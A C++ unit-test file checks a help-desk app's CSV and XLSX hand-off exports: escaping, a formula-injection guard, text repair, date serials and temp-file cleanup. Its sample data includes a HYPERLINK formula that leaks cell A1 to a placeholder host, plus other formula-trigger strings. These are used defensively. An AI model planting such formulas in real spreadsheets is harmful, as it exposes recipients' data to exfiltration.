// Hand-off sheet exports: CSV checked byte for byte and read back by Python's csv module, XLSX read back by openpyxl
// (Debian's /usr/bin/python3), with the formula-injection guard, text repair, truncation and temp-file cleanup.
#include "integrations/export/handoff_export.hpp"

#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <sstream>
#include <thread>

#include "support/command.hpp"
#include "support/peer_process.hpp"
#include "support/temp_dir.hpp"

namespace shiftdesk::integrations {
namespace {

using test::kDebianPython;
using Table = std::vector<std::vector<std::string>>;

constexpr std::string_view kBom = "\xEF\xBB\xBF";
constexpr std::string_view kHeader =
    "Ticket,Subject,Customer,From,Reason,Validation so far,Next step,Needed by,Picked up by,State\r\n";

HandoffRow Plain(std::int64_t id) {
    HandoffRow row;
    row.ticket_id = id;
    row.ticket_subject = "Printer offline";
    row.customer = "ACME GmbH";
    row.from = "ann";
    row.reason = "shift_end";
    row.validation = "Pinged it";
    row.next_step = "Call back";
    row.picked_up_by = "bob";
    row.state = "picked_up";
    return row;
}

// Every awkward thing at once: separators, quotes, a line break, formula signs, non-ASCII.
HandoffRow Tricky() {
    HandoffRow row;
    row.ticket_id = 42;
    row.ticket_subject = "Invoice, \"urgent\"";
    row.customer = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
    row.from = "-ann";
    row.reason = "needs_attention";
    row.validation = "Checked logs\r\nline two";
    row.next_step = "@call Müller — 北京 ☎ 😀";
    row.needed_by = LocalDateTime{.year = 2026, .month = 3, .day = 3, .hour = 14, .minute = 5};
    row.state = "open";
    return row;
}

using test::RunCommand;

void WriteFile(const std::string& path, std::string_view bytes) {
    std::ofstream(path, std::ios::binary).write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
}

std::string Unhex(std::string_view hex) {
    std::string out;
    for (std::size_t i = 0; i + 1 < hex.size(); i += 2) {
        out += static_cast<char>(std::stoi(std::string(hex.substr(i, 2)), nullptr, 16));
    }
    return out;
}

// Python's csv module reads the file (BOM stripped, newline='' as the csv docs require); each cell comes back
// hex-encoded so that any byte survives the trip through the pipe.
constexpr const char* kReadCsv = R"(import csv, sys
with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:
    for row in csv.reader(f, strict=True):
        print(' '.join('x' + cell.encode('utf-8').hex() for cell in row))
)";

Table ReadCsvWithPython(const std::string& csv) {
    test::TempDir dir;
    WriteFile(dir.File("read_csv.py"), kReadCsv);
    WriteFile(dir.File("sheet.csv"), csv);
    const auto out =
        RunCommand(std::string(kDebianPython) + " " + dir.File("read_csv.py") + " " + dir.File("sheet.csv"));
    EXPECT_EQ(out.status, 0) << out.text;
    Table table;
    std::istringstream lines(out.text);
    for (std::string line; std::getline(lines, line);) {
        std::vector<std::string> row;
        std::istringstream cells(line);
        for (std::string cell; cells >> cell;) row.push_back(Unhex(std::string_view(cell).substr(1)));
        table.push_back(row);
    }
    return table;
}

// openpyxl loads the workbook; "summary" prints the sheet's settings, "cells" adds every non-empty cell with its
// type, number format and boldness (long strings as their length and last characters).
constexpr const char* kReadXlsx = R"(import openpyxl, sys
wb = openpyxl.load_workbook(sys.argv[1])
print('sheets', wb.sheetnames)
ws = wb.worksheets[0]
print('freeze', ws.freeze_panes, 'filter', ws.auto_filter.ref, 'rows', ws.max_row)
if sys.argv[2] == 'cells':
    for row in ws.iter_rows():
        for c in row:
            if c.value is None:
                continue
            v = c.value
            shown = 'len=%d tail=%s' % (len(v), ascii(v[-3:])) if isinstance(v, str) and len(v) > 60 else ascii(v)
            print(c.coordinate, c.data_type, shown, c.number_format, *(['bold'] if c.font.b else []))
)";

std::string ReadXlsxWithPython(const std::string& xlsx, const char* mode) {
    test::TempDir dir;
    WriteFile(dir.File("read_xlsx.py"), kReadXlsx);
    WriteFile(dir.File("sheet.xlsx"), xlsx);
    const auto out = RunCommand(std::string(kDebianPython) + " " + dir.File("read_xlsx.py") + " " +
                                dir.File("sheet.xlsx") + " " + mode);
    EXPECT_EQ(out.status, 0) << out.text;
    return out.text;
}

constexpr std::string_view kXlsxHeaderCells =
    "A1 s 'Ticket' General bold\n"
    "B1 s 'Subject' General bold\n"
    "C1 s 'Customer' General bold\n"
    "D1 s 'From' General bold\n"
    "E1 s 'Reason' General bold\n"
    "F1 s 'Validation so far' General bold\n"
    "G1 s 'Next step' General bold\n"
    "H1 s 'Needed by' General bold\n"
    "I1 s 'Picked up by' General bold\n"
    "J1 s 'State' General bold\n";

// Open descriptors of this process: a file libxlsxwriter leaves open would keep its disk space after the removal.
std::size_t OpenFileCount() {
    const std::filesystem::directory_iterator fds("/proc/self/fd");
    return static_cast<std::size_t>(std::distance(begin(fds), end(fds)));
}

// The interpreter or its package may be missing on a machine not set up by scripts/install-deps.sh.
#define SKIP_WITHOUT_PYTHON_MODULE(module)                                                             \
    do {                                                                                               \
        if (!test::PythonCanImport(module)) GTEST_SKIP() << kDebianPython << " cannot import " module; \
    } while (0)

TEST(HandoffExport, ColumnsAreTheSheetsTitlesInOrder) {
    EXPECT_EQ(HandoffColumns(),
              (std::vector<std::string>{"Ticket", "Subject", "Customer", "From", "Reason", "Validation so far",
                                        "Next step", "Needed by", "Picked up by", "State"}));
}

TEST(HandoffExport, CsvMatchesTheGoldenBytes) {
    HandoffRow plain = Plain(7);
    plain.customer = "+41 44 000 00 00";
    plain.validation = "\tindented";
    const std::string csv = RenderHandoffCsv({Tricky(), plain});
    EXPECT_EQ(csv, std::string(kBom) + std::string(kHeader) +
                       "42,\"Invoice, \"\"urgent\"\"\",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\","
                       "'-ann,needs_attention,\"Checked logs\r\nline two\",'@call Müller — 北京 ☎ 😀,"
                       "2026-03-03 14:05,,open\r\n"
                       "7,Printer offline,'+41 44 000 00 00,ann,shift_end,'\tindented,Call back,,bob,picked_up\r\n");
}

TEST(HandoffExport, CsvWithoutRowsIsTheBomAndTheHeader) {
    EXPECT_EQ(RenderHandoffCsv({}), std::string(kBom) + std::string(kHeader));
}

TEST(HandoffExport, CsvCellsStartingLikeAFormulaGetAQuoteSoSpreadsheetsShowThemAsText) {
    const auto customer_field = [](std::string customer) {
        HandoffRow row = Plain(1);
        row.customer = std::move(customer);
        const std::string csv = RenderHandoffCsv({row});
        const std::string prefix = std::string(kBom) + std::string(kHeader) + "1,Printer offline,";
        const std::string suffix = ",ann,shift_end,Pinged it,Call back,,bob,picked_up\r\n";
        EXPECT_TRUE(csv.starts_with(prefix) && csv.ends_with(suffix)) << csv;
        return csv.substr(prefix.size(), csv.size() - prefix.size() - suffix.size());
    };
    EXPECT_EQ(customer_field("=1+2"), "'=1+2");
    EXPECT_EQ(customer_field("+1"), "'+1");
    EXPECT_EQ(customer_field("-1"), "'-1");
    EXPECT_EQ(customer_field("@SUM(A1)"), "'@SUM(A1)");
    EXPECT_EQ(customer_field("\t=1+2"), "'\t=1+2");
    EXPECT_EQ(customer_field("\r=1+2"), "\"'\r=1+2\"") << "quoted for the CR, after the quote mark is added";
    EXPECT_EQ(customer_field(std::string("\0=1+2", 5)), std::string("'\0=1+2", 6));
    EXPECT_EQ(customer_field("=\"a,b\""), "\"'=\"\"a,b\"\"\"");
    // Only the first character matters.
    EXPECT_EQ(customer_field("a=1+2"), "a=1+2");
    EXPECT_EQ(customer_field("'quoted"), "'quoted");
    EXPECT_EQ(customer_field("ACME-Zürich"), "ACME-Zürich");
    EXPECT_EQ(customer_field(""), "");
}

TEST(HandoffExport, CsvReadsBackThroughPythonsCsvModule) {
    SKIP_WITHOUT_PYTHON_MODULE("csv");
    HandoffRow plain = Plain(7);
    plain.customer = "+41 44 000 00 00";
    plain.next_step = "a \"quoted\" word\nand a second line";
    plain.picked_up_by = "";
    const Table table = ReadCsvWithPython(RenderHandoffCsv({Tricky(), plain}));
    EXPECT_EQ(table, (Table{
                         HandoffColumns(),
                         {"42", "Invoice, \"urgent\"", "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'-ann",
                          "needs_attention", "Checked logs\r\nline two", "'@call Müller — 北京 ☎ 😀", "2026-03-03 14:05",
                          "", "open"},
                         {"7", "Printer offline", "'+41 44 000 00 00", "ann", "shift_end", "Pinged it",
                          "a \"quoted\" word\nand a second line", "", "", "picked_up"},
                     }));
}

TEST(HandoffExport, XlsxReadsBackThroughOpenpyxl) {
    SKIP_WITHOUT_PYTHON_MODULE("openpyxl");
    HandoffRow sparse = Plain(7);
    sparse.customer = "=1+2";
    sparse.validation = "";
    sparse.picked_up_by = "";
    sparse.next_step = "line one\nline two";
    const Result<std::string> xlsx = RenderHandoffXlsx({Tricky(), sparse});
    ASSERT_TRUE(xlsx) << xlsx.error().message;
    ASSERT_TRUE(xlsx->starts_with("PK\x03\x04")) << "a zip container";
    EXPECT_EQ(ReadXlsxWithPython(*xlsx, "cells"),
              "sheets ['Hand-off']\n"
              "freeze A2 filter A1:J3 rows 3\n" +
                  std::string(kXlsxHeaderCells) +
                  "A2 n 42 General\n"
                  "B2 s 'Invoice, \"urgent\"' General\n"
                  "C2 s '=HYPERLINK(\"http://x.example/?\"&A1,\"click\")' General\n"
                  "D2 s '-ann' General\n"
                  "E2 s 'needs_attention' General\n"
                  "F2 s 'Checked logs_x000D_\\nline two' General\n"  // libxlsxwriter's escape for CR; Excel undoes it
                  "G2 s '@call M\\xfcller \\u2014 \\u5317\\u4eac \\u260e \\U0001f600' General\n"
                  "H2 d datetime.datetime(2026, 3, 3, 14, 5) yyyy-mm-dd hh:mm\n"
                  "J2 s 'open' General\n"
                  "A3 n 7 General\n"
                  "B3 s 'Printer offline' General\n"
                  "C3 s '=1+2' General\n"  // a string, not a formula, and without the CSV's quote mark
                  "D3 s 'ann' General\n"
                  "E3 s 'shift_end' General\n"
                  "G3 s 'line one\\nline two' General\n"
                  "J3 s 'picked_up' General\n");
}

// Each needed-by cell read back two ways: by openpyxl, and as a reader that truncates the stored serial would (some
// do, and then show 14:30 as 14:29): it must not fall before the minute, nor a millisecond after it. Prints "ok" per
// row, or what went wrong.
constexpr const char* kReadNeededBy = R"py(import datetime, fractions, re, sys, zipfile, openpyxl
expected = [datetime.datetime.fromisoformat(line) for line in sys.argv[2:]]
ws = openpyxl.load_workbook(sys.argv[1]).worksheets[0]
sheet = zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet1.xml').decode()
raw = dict(re.findall(r'<c r="(H[0-9]+)"[^>]*><v>([^<]*)</v>', sheet))
epoch = datetime.datetime(1899, 12, 30)
for i, want in enumerate(expected):
    cell = 'H%d' % (i + 2)
    got = ws[cell].value
    serial = fractions.Fraction(raw[cell])
    # Excel's 1900 calendar counts 1900-02-29, which never was: the days before it are one fewer.
    days = serial if serial >= 61 else serial + 1
    truncated = epoch + datetime.timedelta(microseconds=int(days * 86400 * 10**6))
    if got != want:
        print(cell, 'openpyxl read', got, 'not', want)
    elif not want <= truncated < want + datetime.timedelta(milliseconds=1):
        print(cell, 'serial', raw[cell], 'truncates to', truncated, 'not', want)
    else:
        print('ok')
)py";

// Excel keeps a date and time as a day count with the time as its fraction, and 14:30 is no finite binary (or
// decimal) fraction: the serial written is the one nearest the instant at or after it, so a reader that rounds and a
// reader that truncates both read the minute that was meant.
TEST(HandoffExport, XlsxNeededByReadsBackToTheMinute) {
    SKIP_WITHOUT_PYTHON_MODULE("openpyxl");
    std::vector<HandoffRow> rows;
    std::vector<std::string> expected;
    const auto add = [&](LocalDateTime t) {
        HandoffRow row = Plain(static_cast<std::int64_t>(rows.size()) + 1);
        row.needed_by = t;
        rows.push_back(row);
        char iso[32];
        std::snprintf(iso, sizeof iso, "%04d-%02d-%02dT%02d:%02d:00", t.year, t.month, t.day, t.hour, t.minute);
        expected.emplace_back(iso);
    };
    add({.year = 2026, .month = 3, .day = 3, .hour = 14, .minute = 30});
    for (int minute = 0; minute < 24 * 60; ++minute) {
        add({.year = 2026, .month = 11, .day = 23, .hour = minute / 60, .minute = minute % 60});
    }
    // Day counts of other sizes: before Excel's phantom 1900-02-29, after it, past serial 65536, and the last day.
    for (const LocalDateTime t : {LocalDateTime{1900, 1, 1, 14, 30}, LocalDateTime{1900, 3, 1, 14, 30},
                                  LocalDateTime{2079, 6, 6, 14, 30}, LocalDateTime{2100, 2, 28, 23, 59},
                                  LocalDateTime{2173, 10, 15, 14, 30}, LocalDateTime{9999, 12, 31, 23, 59}}) {
        add(t);
    }
    const Result<std::string> xlsx = RenderHandoffXlsx(rows);
    ASSERT_TRUE(xlsx) << xlsx.error().message;

    test::TempDir dir;
    WriteFile(dir.File("read.py"), kReadNeededBy);
    WriteFile(dir.File("sheet.xlsx"), *xlsx);
    std::string command = std::string(kDebianPython) + " " + dir.File("read.py") + " " + dir.File("sheet.xlsx");
    for (const auto& e : expected) command += " " + e;
    const auto out = RunCommand(command);
    ASSERT_EQ(out.status, 0) << out.text;
    std::istringstream lines(out.text);
    std::size_t ok = 0;
    for (std::string line; std::getline(lines, line);) {
        if (line == "ok") {
            ++ok;
        } else {
            ADD_FAILURE() << line;
        }
    }
    EXPECT_EQ(ok, rows.size());
}

TEST(HandoffExport, XlsxWithoutRowsStillOpens) {
    SKIP_WITHOUT_PYTHON_MODULE("openpyxl");
    const Result<std::string> xlsx = RenderHandoffXlsx({});
    ASSERT_TRUE(xlsx) << xlsx.error().message;
    EXPECT_EQ(ReadXlsxWithPython(*xlsx, "cells"),
              "sheets ['Hand-off']\n"
              "freeze A2 filter A1:J1 rows 1\n" +
                  std::string(kXlsxHeaderCells));
}

TEST(HandoffExport, XlsxRepairsTextXmlCannotCarryAndTruncatesOverlongCells) {
    SKIP_WITHOUT_PYTHON_MODULE("openpyxl");
    std::string emoji;
    for (int i = 0; i < 20000; ++i) emoji += "😀";
    std::vector<HandoffRow> rows(8, Plain(1));
    rows[0].validation = std::string(40000, 'x') + "END";
    rows[1].validation = std::string(32767, 'y');        // exactly the limit: kept whole
    rows[2].validation = std::string(32766, 'z') + "😀";  // the emoji would be unit 32768
    rows[3].validation = emoji;                          // 16383 emojis fill 32766 units
    rows[4].validation =
        "a\xFF"
        "b \xC0\xAF overlong \xED\xA0\x80 surrogate";
    rows[5].validation = std::string("a\0b \xEF\xBF\xBE \xEF\xBF\xBF", 11);
    rows[6].validation = "cut short \xE2\x82";
    rows[7].needed_by = LocalDateTime{.year = 2026, .month = 2, .day = 29, .hour = 9, .minute = 0};
    const Result<std::string> xlsx = RenderHandoffXlsx(rows);
    ASSERT_TRUE(xlsx) << xlsx.error().message;

    const std::string out = ReadXlsxWithPython(*xlsx, "cells");
    const auto line_of = [&](const std::string& cell) {
        const std::size_t at = out.find("\n" + cell + " ");
        return at == std::string::npos ? "<" + cell + " missing>" : out.substr(at + 1, out.find('\n', at + 1) - at - 1);
    };
    EXPECT_EQ(line_of("F2"), "F2 s len=32767 tail='xxx' General");
    EXPECT_EQ(line_of("F3"), "F3 s len=32767 tail='yyy' General");
    EXPECT_EQ(line_of("F4"), "F4 s len=32766 tail='zzz' General");
    EXPECT_EQ(line_of("F5"), "F5 s len=16383 tail='\\U0001f600\\U0001f600\\U0001f600' General");
    EXPECT_EQ(line_of("F6"), "F6 s 'a\\ufffdb \\ufffd\\ufffd overlong \\ufffd\\ufffd\\ufffd surrogate' General");
    EXPECT_EQ(line_of("F7"), "F7 s 'a\\ufffdb \\ufffd \\ufffd' General");
    EXPECT_EQ(line_of("F8"), "F8 s 'cut short \\ufffd\\ufffd' General");
    EXPECT_EQ(line_of("H9"), "H9 s '2026-02-29 09:00' General") << "2026 is no leap year: kept as text";
}

TEST(HandoffExport, XlsxStreamsALongSheetAndLeavesTheTempDirEmpty) {
    SKIP_WITHOUT_PYTHON_MODULE("openpyxl");
    test::TempDir temp;
    std::vector<HandoffRow> rows;
    for (int i = 1; i <= 3000; ++i) {
        HandoffRow row = Tricky();
        row.ticket_id = i;
        rows.push_back(row);
    }
    const std::size_t open_before = OpenFileCount();
    const Result<std::string> xlsx = RenderHandoffXlsx(rows, temp.path().string());
    ASSERT_TRUE(xlsx) << xlsx.error().message;
    EXPECT_TRUE(std::filesystem::is_empty(temp.path()));
    EXPECT_EQ(OpenFileCount(), open_before);
    EXPECT_EQ(ReadXlsxWithPython(*xlsx, "summary"),
              "sheets ['Hand-off']\n"
              "freeze A2 filter A1:J3001 rows 3001\n");
}

TEST(HandoffExport, XlsxInATempDirThatCannotBeWrittenIsAnInternalError) {
    for (const std::string dir : {"/proc/nonexistent", "/proc"}) {
        const Result<std::string> xlsx = RenderHandoffXlsx({Plain(1)}, dir);
        ASSERT_FALSE(xlsx) << dir;
        EXPECT_EQ(xlsx.error().code, ErrorCode::kInternal);
        EXPECT_NE(xlsx.error().message.find(dir), std::string::npos) << xlsx.error().message;
    }
    test::TempDir temp;
    const Result<std::string> xlsx = RenderHandoffXlsx({Plain(1)}, temp.File("missing"));
    ASSERT_FALSE(xlsx);
    EXPECT_EQ(xlsx.error().code, ErrorCode::kInternal);
    EXPECT_TRUE(std::filesystem::is_empty(temp.path())) << "nothing created on the way";
}

// Exports run on the server's I/O threads; each needs its own scratch files.
TEST(HandoffExport, ThreadsExportingAtOnceAllGetWholeWorkbooks) {
    test::TempDir temp;
    const std::vector<HandoffRow> rows = {Tricky(), Plain(7)};
    std::vector<std::string> failures(4);
    {
        std::vector<std::jthread> threads;
        for (std::string& failure : failures) {
            threads.emplace_back([&] {
                for (int i = 0; i < 10; ++i) {
                    const Result<std::string> xlsx = RenderHandoffXlsx(rows, temp.path().string());
                    if (!xlsx) {
                        failure = xlsx.error().message;
                    } else if (!xlsx->starts_with("PK\x03\x04") || !xlsx->ends_with(std::string_view("\0\0", 2))) {
                        failure = "not a whole zip file";  // a zip ends with its directory's empty comment length
                    }
                }
            });
        }
    }
    for (const std::string& failure : failures) EXPECT_EQ(failure, "");
    EXPECT_TRUE(std::filesystem::is_empty(temp.path()));
}

}  // namespace
}  // namespace shiftdesk::integrations
